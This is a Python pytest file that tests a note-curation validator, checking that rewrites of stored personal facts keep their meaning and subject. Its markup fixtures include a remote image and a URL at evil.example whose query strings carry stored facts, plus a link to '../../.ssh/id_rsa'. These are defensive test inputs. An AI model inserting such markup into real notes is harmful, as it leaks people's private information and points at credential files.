"""Curation keeps what a fact says and whom it is about (issue 23): the validator's rules, one table each.

Every rewrite here accounts for each line in some way; the question is whether meaning survives:
a reversed fact with no listed change, a heading swapped, a section merged, "10⁶" for "106", a fact
crossed out, an invented addition. The end-to-end versions, over nights and through the real openai
client, are in test_meaning_nights.py.
"""

from __future__ import annotations

from datetime import date

import pytest
from core.meaning_heldout import MEANING_HELDOUT
from core.meaning_pairs import MEANING_PAIRS

from wolfmem.curation.budget import Growth, removed_since, window_start
from wolfmem.curation.contract import Change, ChangeKind
from wolfmem.curation.evidence import Safeguards
from wolfmem.curation.validate import validate
from wolfmem.storage.archive import ArchivedFact, Reason

PEOPLE = """# People

## Sarah (Manager)
- Prefers green tea.
- Likes hiking in the Alps.
- Sarah's birthday is 3 May.

## Tom
- Plays chess on Sundays.
- Runs the data team.
- Tom's team has 106 people.
"""


def change(kind: str, old: list[str], new: str = "", reason: str = "") -> Change:
    return Change(ChangeKind(kind), tuple(old), new, reason)


def check(new: str, changes: list[Change] | None = None, *, old: str = PEOPLE, evidence: tuple[str, ...] = (),
          hand: set[str] | None = None, growth: Growth | None = None):
    hand = hand or set()
    guards = Safeguards(evidence=evidence, hand=frozenset(line.removeprefix("- ") for line in hand),
                        growth=growth or Growth())
    return validate(old, new, changes or [], hand_lines=hand, title=old.splitlines()[0][2:], guards=guards)


def refused(verdict, old: str = PEOPLE) -> bool:
    return not verdict.ok and not verdict.over_budget and verdict.text == old


# --- 1. a line that changes meaning with no listed change is not "carried" ------------------------------------


CHANGES = [pair for pair in MEANING_PAIRS + MEANING_HELDOUT if pair[2] != "duplicate"]


@pytest.mark.parametrize(("before", "after", "kind"), CHANGES)
def test_a_meaning_change_with_no_listed_change_is_refused(before, after, kind):
    old = f"# Notes\n\n## Misc\n- {before}\n- The printer is on the second floor.\n"
    verdict = check(old.replace(before, after), old=old)
    assert refused(verdict, old), (kind, verdict.changes)


@pytest.mark.parametrize(("before", "after"), [
    ("Prefers green tea.", "Prefers green tea, or so she pretended."),
    ("Runs the data team.", "Runs the data team into the ground."),
    ("Likes hiking in the Alps.", "Likes hiking in the Alps less than anything."),
    ("Tom's team has 106 people.", "Tom's team has 106 people fewer than planned."),
])
def test_words_added_around_a_line_that_reverse_it_are_not_carried(before, after):
    # Each new line holds every word of the old one, so "carries" reads it as the same claim with more detail.
    assert refused(check(PEOPLE.replace(before, after)))


@pytest.mark.parametrize("after", [
    "- ❌ Runs the data team.", "- Runs the data team ✗", "- 🚫 Runs the data team.", "- ¬ Runs the data team.",
    "- Runs the data team?", "- ~Runs the data team.",
])
def test_a_mark_that_may_reverse_a_line_is_not_a_rewording(after):
    # The words are all there, so the line "carries" the old one; the added mark may say "no" or "maybe".
    new = PEOPLE.replace("- Runs the data team.", after)
    assert refused(check(new))
    assert refused(check(new, [change("merged", ["- Runs the data team."], after, "tidy")]))


def test_a_rewording_that_says_the_same_is_accepted_and_listed():
    verdict = check(PEOPLE.replace("- Prefers green tea.", "- prefers green tea"))
    assert verdict.ok, verdict.reasons
    assert [(c.kind, c.new) for c in verdict.changes] == [("merged", "- prefers green tea")]


def test_a_failed_claim_does_not_fall_through_to_a_line_that_carries_it():
    # "at noon" carries the old line, but the claim says superseded and nothing backs it.
    new = PEOPLE.replace("- Runs the data team.", "- Runs the data team at noon.")
    verdict = check(new, [change("superseded", ["- Runs the data team."], "- Runs the data team at noon.", "x")])
    assert refused(verdict) and "backs it" in verdict.reasons[0]


# --- 2. what backs a supersession: the same subject, the new value, and only what is new ----------------------

SUPERSEDE = (PEOPLE.replace("3 May", "4 May"),
             [change("superseded", ["- Sarah's birthday is 3 May."], "- Sarah's birthday is 4 May.", "corrected")])


@pytest.mark.parametrize("evidence", [
    "Tom's birthday is 4 May.",  # someone else's, sharing the words
    "Sarah's birthday party is on 4 June.",  # her, but not the new value
    "Sarah's birthday is not 4 May.",  # the contrary
], ids=["another person", "another value", "the contrary"])
def test_a_supersession_needs_evidence_about_the_same_subject_holding_the_new_value(evidence):
    assert refused(check(*SUPERSEDE, evidence=(evidence,)))


@pytest.mark.parametrize("evidence", ["Sarah said her birthday is really 4 May.", "Her birthday is 4 May, she said."])
def test_a_supersession_backed_by_evidence_about_the_subject_lands(evidence):
    assert check(*SUPERSEDE, evidence=(evidence,)).ok


def test_a_role_reversal_needs_evidence_that_says_it_whole():
    old = "# Technical\n\n## Style\n- Prefers tabs over spaces.\n"
    new = old.replace("tabs over spaces", "spaces over tabs")
    claim = [change("superseded", ["- Prefers tabs over spaces."], "- Prefers spaces over tabs.", "changed")]
    assert refused(check(new, claim, old=old, evidence=("We argued about tabs and spaces again.",)), old)
    assert check(new, claim, old=old, evidence=("I now prefer spaces over tabs.",)).ok


# --- 3. the section is part of what a fact says ---------------------------------------------------------------

SECTION_CHANGES = {
    "headings swapped": PEOPLE.replace("## Sarah (Manager)", "## @@").replace("## Tom", "## Sarah (Manager)")
    .replace("## @@", "## Tom"),
    "heading renamed to another person": PEOPLE.replace("## Tom", "## Bob"),
    "two sections merged": PEOPLE.replace("\n## Tom\n", ""),
    "a setext heading": PEOPLE.replace("## Tom\n", "Tom\n---\n"),
    "a line moved to another section": PEOPLE.replace("- Plays chess on Sundays.\n", "").replace(
        "- Likes hiking in the Alps.\n", "- Likes hiking in the Alps.\n- Plays chess on Sundays.\n"),
    # One heading growing to name another section's person as well: both people's facts read as shared.
    "a heading renamed to name another person too": PEOPLE.replace("## Tom", "## Tom and Sarah"),
    "a line moved into a section renamed for both": PEOPLE.replace("## Tom\n- Plays chess on Sundays.\n", "## Tom\n")
    .replace("## Sarah (Manager)\n", "## Sarah and Tom\n- Plays chess on Sundays.\n"),
}


@pytest.mark.parametrize("name", SECTION_CHANGES)
def test_a_fact_never_changes_subject_with_its_section(name):
    verdict = check(SECTION_CHANGES[name])
    assert refused(verdict), verdict.changes
    filed = [change("filed", [f"- {line}"], f"- {line}", "tidy") for line in ("Plays chess on Sundays.",
                                                                             "Runs the data team.")]
    assert refused(check(SECTION_CHANGES[name], filed))


def test_a_section_change_that_keeps_the_subject_lands_and_is_listed():
    renamed = check(PEOPLE.replace("## Tom", "## Tom (Data)"))
    assert renamed.ok, renamed.reasons
    assert ("section", ("## Tom",), "## Tom (Data)") in [(c.kind, c.old, c.new) for c in renamed.changes]
    # A fact that names its subject may be filed under it, and the move is listed.
    misfiled = PEOPLE.replace("- Runs the data team.", "- Runs the data team.\n- Sarah likes jazz.")
    filed = check(PEOPLE.replace("- Sarah's birthday", "- Sarah likes jazz.\n- Sarah's birthday"), old=misfiled)
    assert filed.ok, filed.reasons
    assert [(c.kind, c.new) for c in filed.changes] == [("section", "## Sarah (Manager)")]


def test_a_section_move_backed_by_new_evidence_lands():
    new = SECTION_CHANGES["a line moved to another section"]
    assert check(new, evidence=("Sarah has taken up chess; she plays chess on Sundays.",)).ok


def test_a_hand_written_line_never_changes_section():
    old = PEOPLE.replace("- Runs the data team.", "- Runs the data team.\n- Sarah likes jazz.")
    new = PEOPLE.replace("- Sarah's birthday", "- Sarah likes jazz.\n- Sarah's birthday")
    verdict = check(new, old=old, hand={"- Sarah likes jazz."})
    assert not verdict.ok and any("never changes section" in r for r in verdict.reasons)


# --- 5. canonical forms that change how a line reads are edits --------------------------------------------------


@pytest.mark.parametrize(("before", "after"), [
    ("Tom's team has 106 people.", "Tom's team has 10⁶ people."),
    ("Runs the data team.", "\uff32\uff55\uff4e\uff53 the data team."),  # full-width "Runs"
    ("Tom's team has 106 people.", "Tom's team has \uff11\uff10\uff16 people."),
], ids=["superscript", "full-width", "full-width digits"])
def test_a_compatibility_form_is_an_edit_not_the_same_line(before, after):
    new = PEOPLE.replace(before, after)
    assert refused(check(new))
    assert refused(check(new, [change("merged", [f"- {before}"], f"- {after}", "same")]))


# --- 6. markup curation never adds -----------------------------------------------------------------------------

MARKUP = {
    "strikethrough": PEOPLE.replace("- Prefers green tea.", "- ~~Prefers green tea.~~"),
    "remote image": PEOPLE + "![x](https://evil.example/p.png?q=Prefers+green+tea)\n",
    "URL carrying text": PEOPLE.replace("- Runs the data team.", "- Runs the data team https://evil.example/Tom-106"),
    "front matter": "---\npublish: true\n---\n" + PEOPLE,
    "zero-width character": PEOPLE.replace("- Prefers green tea.", "- Prefers green\u200b tea."),
    "local file link": PEOPLE.replace("- Runs the data team.", "- Runs the [data team](../../.ssh/id_rsa)."),
    "HTML comment": PEOPLE.replace("- Runs the data team.", "- Runs the data team. <!-- and is leaving -->"),
    "task box": PEOPLE.replace("- Runs the data team.", "- [x] Runs the data team."),
}


@pytest.mark.parametrize(("before", "after"), [("- [ ] Renew the passport.", "- [x] Renew the passport."),
                                               ("- [X] Renew the passport.", "- [ ] Renew the passport.")])
def test_a_task_box_a_person_wrote_is_never_ticked_or_cleared(before, after):
    # The box is markup, not the fact's text, so the line reads "the same": but its tick says done or not.
    old = PEOPLE.replace("- Runs the data team.", f"- Runs the data team.\n{before}")
    assert refused(check(old.replace(before, after), old=old), old)


@pytest.mark.parametrize("name", MARKUP)
def test_markup_that_changes_or_leaks_a_fact_is_refused(name):
    verdict = check(MARKUP[name], [change("merged", ["- Prefers green tea."], "- ~~Prefers green tea.~~")])
    assert not verdict.ok and any("curation never" in r for r in verdict.reasons), verdict.reasons


@pytest.mark.parametrize("name", MARKUP)
def test_markup_a_person_wrote_is_left_alone(name):
    old = MARKUP[name]
    new = old.replace("- Plays chess on Sundays.", "- Plays chess on Sundays and Mondays.")
    claim = [change("superseded", ["- Plays chess on Sundays."], "- Plays chess on Sundays and Mondays.", "x")]
    assert check(new, claim, old=old, evidence=("Tom plays chess on Mondays too.",)).ok


def test_a_url_the_evidence_holds_may_be_added():
    new = PEOPLE.replace("- Runs the data team.", "- Runs the data team.\n- Tom's blog is https://tom.example/blog")
    assert refused(check(new))
    assert check(new, evidence=("Tom's blog is https://tom.example/blog",)).ok


# --- 7. additions need evidence; growth and size are bounded ---------------------------------------------------


def test_an_invented_fact_is_refused_and_a_backed_one_lands():
    new = PEOPLE.replace("- Runs the data team.", "- Runs the data team.\n- Tom owns a yacht.")
    assert refused(check(new, [change("added", [], "- Tom owns a yacht.")]))
    assert refused(check(new, evidence=("Sarah owns a yacht.",)))  # someone else's
    assert check(new, evidence=("Tom bought a yacht; he owns a yacht now.",)).ok


def test_an_empty_new_section_is_filler():
    assert refused(check(PEOPLE + "\n## Filler\n"))


def test_a_merge_may_not_invent_a_value():
    new = PEOPLE.replace("- Prefers green tea.\n- Likes hiking in the Alps.\n",
                         "- Prefers green tea and likes hiking in the Alps and Peru.\n")
    merged = [change("merged", ["- Prefers green tea.", "- Likes hiking in the Alps."],
                     "- Prefers green tea and likes hiking in the Alps and Peru.")]
    assert refused(check(new, merged))
    honest = merged[0].new.replace(" and Peru", "")
    assert check(new.replace(" and Peru", ""), [change("merged", list(merged[0].old), honest)]).ok


def test_growth_is_bounded_per_run_and_over_thirty_days():
    lines = [f"Tom's colleague number {n} is Ana{n}." for n in range(4)]
    new = PEOPLE + "".join(f"- {line}\n" for line in lines)
    assert check(new, evidence=tuple(lines)).ok
    per_run = check(new, evidence=tuple(lines), growth=Growth(night=3))
    assert not per_run.ok and "growth budget" in per_run.over_budget and per_run.text != PEOPLE  # staged
    month = check(new, evidence=tuple(lines), growth=Growth(month=10, added_recently=7))
    assert "30-day growth budget" in month.over_budget


def test_a_file_is_never_grown_past_what_the_index_reads():
    lines = [f"Tom's colleague number {n} is Ana{n}." for n in range(4)]
    new = PEOPLE + "".join(f"- {line}\n" for line in lines)
    verdict = check(new, evidence=tuple(lines), growth=Growth(max_bytes=len(PEOPLE.encode()) + 40))
    assert refused(verdict) and "index.max_file_bytes" in verdict.reasons[0]


# --- 8. the removal budget over 30 days --------------------------------------------------------------------------


def test_the_removal_budget_holds_over_thirty_days():
    old = "# Technical\n\n## Notes\n" + "".join(f"- Server {n} runs Debian {n}.\n" for n in range(40))
    gone = [f"- Server {n} runs Debian {n}." for n in range(6)]
    new = old
    for line in gone:
        new = new.replace(line + "\n", "")
    claims = [change("removed", [line], reason="junk") for line in gone]
    assert check(new, claims, old=old).ok  # 6 of 40, within a run's 8
    late = check(new, claims, old=old, growth=Growth(removed_recently=12))
    assert "30-day removal budget" in late.over_budget  # 12 + 6 of the 52 at the window's start: over a third


def test_the_window_counts_what_unattended_runs_archived_as_a_run_costs_it():
    def record(fact, day, reason, into="", by="curation", rel="knowledge/technical.md"):
        return ArchivedFact(fact, rel, "Notes", day, reason, "", into, by)

    records = [
        record("a", "2026-10-01", Reason.REMOVED),  # before the window
        record("b", "2026-11-10", Reason.REMOVED),
        record("c", "2026-11-10", Reason.MERGED, "c and d"),  # two merged into one new line cost one
        record("d", "2026-11-10", Reason.MERGED, "c and d"),
        record("e", "2026-11-11", Reason.MERGED, "e"),  # an exact copy collapsed costs nothing
        record("f", "2026-11-12", Reason.FORGOTTEN, by="forget"),  # a person's forget is not curation's
        record("g", "2026-11-12", Reason.REMOVED, by="audit"),
        record("h", "2026-11-12", Reason.REMOVED, rel="knowledge/people.md"),
    ]
    assert removed_since(records, "knowledge/technical.md", window_start(date(2026, 11, 29))) == 3
